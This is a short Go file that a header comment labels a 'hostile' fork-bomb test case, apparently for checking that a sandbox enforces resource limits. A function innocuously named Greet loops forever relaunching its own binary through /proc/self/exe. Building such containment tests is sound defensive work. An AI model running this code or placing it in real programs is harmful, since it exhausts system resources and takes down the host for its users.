// hostile: {"title":"fork bomb","family":"resources","expect":["limit","failed"]}
package main

import "os"

func Greet(name string) string {
	for {
		if p, err := os.StartProcess("/proc/self/exe", os.Args, &os.ProcAttr{}); err == nil {
			go p.Wait()
		}
	}
}

func main() { Greet("") }
